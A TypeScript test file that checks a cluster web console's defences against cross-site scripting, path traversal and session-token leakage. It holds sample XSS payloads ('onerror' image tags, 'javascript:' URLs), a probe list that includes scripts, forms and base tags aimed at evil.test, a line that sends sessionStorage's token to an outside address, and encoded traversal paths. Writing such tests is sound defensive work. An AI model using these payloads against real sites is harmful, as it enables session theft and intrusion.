import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createAuthority, issueServer } from '../../deploy/local/cluster/pki.ts';
import type { KubeClient } from '../../src/kube/client.ts';
import { EVENTS } from '../../src/kube/event.ts';
import { SECRETS } from '../../src/objects/core.ts';
import { DEPLOYMENTS } from '../../src/objects/workload.ts';
import { type ConsoleBrowser, type ConsoleTab, openConsoleBrowser } from '../cluster/support/console.ts';
import { Install, Shop } from '../cluster/support/shop.ts';
import { rest } from '../cluster/support/traffic.ts';
import { connect, TESTER } from '../cluster/support/world.ts';
import { certificateSecret } from '../support/certificate.ts';
import { eventually } from '../support/eventually.ts';
import {
  keptToken,
  MARKUP,
  pagesOf,
  settled,
  storedIn,
  strangeLinks,
  tracesIn,
  watchPolicy,
} from './support/consoleattack.ts';
import { type Member, newMember } from './support/member.ts';

/** Name of an object, as long as names may be. */
const LONG = `${'r'.repeat(60)}.`.repeat(5).slice(0, 253);

let administrator: KubeClient;
let browser: ConsoleBrowser;
let shop: Shop;
let member: Member;

beforeAll(async () => {
  [administrator, browser, shop] = await Promise.all([connect(), openConsoleBrowser(), Shop.open()]);
  member = await newMember(administrator);
  await fillWithMarkup(member);
});

afterAll(() => Promise.all([browser.close(), shop.close()]));

/** Puts markup wherever a member may put text, and names as long as they may be. */
async function fillWithMarkup({ team }: Member): Promise<void> {
  await team.component('web');
  await setImage(MARKUP);
  await team.rule('plain');
  await team.rule(LONG, {
    domainName: `${'h'.repeat(60)}.${team.host}`,
    domainPath: `/${'p'.repeat(100)}`,
  });
  const secret = certificateSecret(
    team.namespace,
    7,
    await issueServer(await createAuthority(), team.id, [team.host]),
  );
  const metadata = { ...secret.metadata, annotations: { 'stoa.dev/certificate-alias': MARKUP } };
  await administrator.apply(SECRETS, { ...secret, metadata }, TESTER);
  await shop.offer('evil', '1.0', MARKUP);
  await new Install(administrator, team, shop, 'evil').apply();
  await tellEvent();
}

/** Sets the image of the component, as another manager: its labels stay. */
async function setImage(image: string): Promise<void> {
  const metadata = { name: 'web', namespace: member.team.namespace };
  const spec = {
    selector: { matchLabels: { app: 'web' } },
    template: { spec: { containers: [{ name: 'main', image }] } },
  };
  const draft = { apiVersion: 'apps/v1', kind: 'Deployment', metadata, spec };
  await administrator.apply(DEPLOYMENTS, draft, `${TESTER}-image`);
}

async function tellEvent(): Promise<void> {
  const { namespace } = member.team;
  const event = {
    apiVersion: 'events.k8s.io/v1',
    kind: 'Event',
    metadata: { name: 'markup', namespace },
    eventTime: new Date().toISOString().replace('Z', '000Z'),
    reportingController: 'example.com/test',
    reportingInstance: 'test',
    action: MARKUP,
    reason: MARKUP,
    type: 'Warning',
    note: MARKUP,
    regarding: { apiVersion: 'stoa.dev/v1alpha1', kind: 'GatewayRule', namespace, name: 'plain' },
  };
  await administrator.apply(EVENTS, event, TESTER);
}

/** A tab of the member, with the policy watched. */
async function openTab(): Promise<ConsoleTab> {
  const tab = await browser.open();
  await tab.signIn(member.token);
  await watchPolicy(tab);
  return tab;
}

/** Paths of all pages of what the member has. */
async function allPages(): Promise<readonly string[]> {
  const { team, app } = pagesOf(member.team.id);
  const component = `${app}/components/web`;
  const { rules: made, installs } = await partsOf(member);
  const rules = made.flatMap(({ rule_id }) => [`${app}/rules/${rule_id}`, `${app}/rules/${rule_id}/edit`]);
  const forms = [`${app}/rules/new?component=web&port=8080`, `${app}/installs/new`];
  return [
    '/',
    team,
    `${team}/certificates`,
    app,
    `${app}/events`,
    component,
    ...rules,
    ...forms,
    ...installs.map(({ install_id }) => `${app}/installs/${install_id}`),
  ];
}

/** Ids of the rules and installs of a member, as paths have them. */
async function partsOf({ team, token }: Member): Promise<{
  readonly rules: readonly { readonly rule_id: string }[];
  readonly installs: readonly { readonly install_id: string }[];
}> {
  const path = `/teams/${team.id}/regions/${inject('cluster').region}/apps/1/topology`;
  const { body } = await rest(path, { method: 'GET', token });
  const parts = body as unknown as Awaited<ReturnType<typeof partsOf>>;
  expect([parts.rules.length, parts.installs.length]).toEqual([2, 1]);
  return parts;
}

describe('markup and long names of others', () => {
  it('are text on every page: no script runs, no link leads elsewhere than the web, and nothing is reported', async () => {
    const tab = await openTab();
    const seen: string[] = [];
    for (const path of await allPages()) {
      await tab.go(path);
      await settled(tab);
      seen.push((await tab.page.$eval('body', ({ textContent }) => textContent)) as string);
      expect({ path, links: await strangeLinks(tab) }).toEqual({ path, links: [] });
    }
    expect(seen.filter((text) => text.includes('<img src=x onerror')).length).toBeGreaterThan(2);
    expect(await tracesIn(tab)).toEqual({ violations: [], taken: false });
    expect(tab.complaints).toEqual([]);
  });

  it('fit a phone: no page is wider than its screen', async () => {
    const tab = await openTab();
    await tab.page.setViewport({ width: 360, height: 740 });
    const wide: string[] = [];
    for (const path of await allPages()) {
      await tab.go(path);
      await settled(tab);
      const width = (await tab.page.evaluate('document.scrollingElement.scrollWidth')) as number;
      wide.push(...(width > 360 ? [`${path}: ${width}`] : []));
    }
    expect(wide).toEqual([]);
  });

  it.each([
    '#/teams/%E0%A4%A/local',
    '#/%',
    '#//evil.test/',
    '#/teams/../local',
    '#/teams/<script>/x',
    '#javascript:taken=1',
    '#key=%',
  ])('in the address %s lead to a page that says so', async (hash) => {
    const tab = await openTab();
    await tab.page.goto(`${inject('cluster').restUrl}/console/?fresh${hash}`);
    await eventually(async () =>
      expect(await tab.page.$eval('body', ({ textContent }) => textContent)).toMatch(/\w/),
    );
    expect(await tracesIn(tab)).toEqual({ violations: [], taken: false });
    expect(tab.page.url()).toContain(inject('cluster').restUrl);
  });
});

const PROBES = {
  'an inline script':
    'const s = document.createElement("script"); s.append("taken = 1"); document.body.append(s)',
  'a handler in an attribute': 'document.body.setAttribute("onclick", "taken = 1"); document.body.click()',
  'a text as code': 'setTimeout("taken = 1")',
  'a text as HTML': 'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=taken=1>")',
  'a script from elsewhere':
    'const s = document.createElement("script"); s.setAttribute("src", "https://evil.test/a.js"); document.body.append(s)',
  'a policy of its own': 'trustedTypes.createPolicy("mine", { createScript: (text) => text })',
  'a style':
    'const s = document.createElement("style"); s.append("body { color: red }"); document.head.append(s)',
  'a frame':
    'const f = document.createElement("iframe"); f.src = "data:text/html,x"; document.body.append(f)',
  'an object':
    'const o = document.createElement("object"); o.data = "data:text/html,x"; document.body.append(o)',
  'a request elsewhere': 'fetch("http://127.0.0.1:1/").catch(() => undefined)',
  'an image elsewhere': 'new Image().src = "http://127.0.0.1:1/" + sessionStorage.getItem("stoa.session")',
  'a worker': 'new Worker("data:text/javascript,taken=1")',
  'a base':
    'const b = document.createElement("base"); b.href = "https://evil.test/"; document.head.append(b)',
  'a form':
    'const f = document.createElement("form"); f.action = "https://evil.test/"; document.body.append(f); f.submit()',
};

describe('the policy of the page', () => {
  it('blocks what a script could do that got into it', async () => {
    const tab = await openTab();
    for (const [what, code] of Object.entries(PROBES)) {
      const blocked = await tab.page.evaluate(`new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
        setTimeout(() => resolve(false), 5000);
        try { ${code} } catch {}
      })`);
      expect({ what, blocked, ...(await tracesIn(tab)) }).toMatchObject({
        what,
        blocked: true,
        taken: false,
      });
    }
  });

  it('lets nobody frame the page, and comes with headers that keep it apart', async () => {
    const { restUrl } = inject('cluster');
    const { headers } = await fetch(`${restUrl}/console/`);
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(Object.fromEntries(headers)).toMatchObject({
      'x-frame-options': 'DENY',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'cache-control': 'no-store',
    });
    const authorization = `Bearer ${member.token}`;
    const data = await fetch(`${restUrl}/openapi/v1/teams`, { headers: { authorization } });
    expect(data.headers.get('cache-control')).toBe('no-store');
  });

  it('leaves files beside the page alone, whatever the path and the method', async () => {
    const { restUrl } = inject('cluster');
    const paths = [
      '..%2findex.html',
      '%2e%2e/%2e%2e/main.js',
      '..%5cindex.html',
      '%00',
      '%E0%A4%A',
      '.',
      `${'a'.repeat(4000)}.js`,
    ];
    for (const path of paths) {
      const { status } = await fetch(`${restUrl}/console/assets/${path}`);
      expect({ path, isRefused: status >= 400 && status < 500 }).toEqual({ path, isRefused: true });
    }
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH']) {
      expect((await fetch(`${restUrl}/console/`, { method })).status).toBe(404);
    }
    const head = await fetch(`${restUrl}/console/`, { method: 'HEAD' });
    expect([head.status, await head.text()]).toEqual([200, '']);
  });
});

describe('the token', () => {
  it('is in the storage of the tab alone, in no address, request body, preview or log, and in nothing after the sign-out', async () => {
    const tab = await openTab();
    const bodies: string[] = [];
    const referrers: string[] = [];
    tab.page.on('request', (request) => {
      bodies.push(request.postData() ?? '');
      referrers.push(request.headers().referer ?? '');
    });
    for (const path of await allPages()) {
      await tab.go(path);
      await settled(tab);
      expect(await tab.page.content()).not.toContain(member.token);
    }
    const [rule] = (await partsOf(member)).rules;
    await tab.go(`${pagesOf(member.team.id).app}/rules/${rule?.rule_id}/edit`);
    await tab.fill('Host', `other.${member.team.host}`);
    await tab.click('curl');
    await tab.shows('$TOKEN');
    expect(await tab.page.content()).not.toContain(member.token);
    expect(await keptToken(tab)).toBe(member.token);
    expect(await storedIn(tab, false)).not.toContain(member.token);
    expect(
      [...tab.asked, ...bodies, ...tab.complaints].filter((text) => text.includes(member.token)),
    ).toEqual([]);
    expect(referrers.filter((text) => text !== '')).toEqual([]);
    await tab.click('Sign out');
    await tab.page.waitForSelector('::-p-aria([name="Token"])');
    expect(await storedIn(tab, true)).not.toContain(member.token);
    expect(await tab.page.content()).not.toContain(member.team.id);
    const log = await readFile(join(inject('stateDir'), 'logs', 'rest.log'), 'utf8');
    expect(log).not.toContain(member.token);
  });

  it('is not in another tab, also one that the page opens', async () => {
    const tab = await openTab();
    const other = await tab.page.browserContext().newPage();
    await other.goto(`${inject('cluster').restUrl}/console/`);
    await other.waitForSelector('::-p-aria([name="Token"])');
    expect(await other.evaluate('sessionStorage.length')).toBe(0);
  });

  it('leaves the address and the history at once where it came by them, also into an open page', async () => {
    const key = 'k'.repeat(43);
    const { restUrl } = inject('cluster');
    const tab = await browser.open();
    for (const url of [
      `${restUrl}/console/?fresh#key=${key}`,
      `${restUrl}/console/#key=${key}`,
      `${restUrl}/console/#key=${key}`,
    ]) {
      await tab.page.goto(url);
      await eventually(() => expect(tab.page.url()).not.toContain(key));
    }
    const session = await tab.page.createCDPSession();
    const { entries } = await session.send('Page.getNavigationHistory');
    expect(entries.filter(({ url }) => url.includes(key))).toEqual([]);
    expect(await storedIn(tab, false)).not.toContain(key);
  });
});
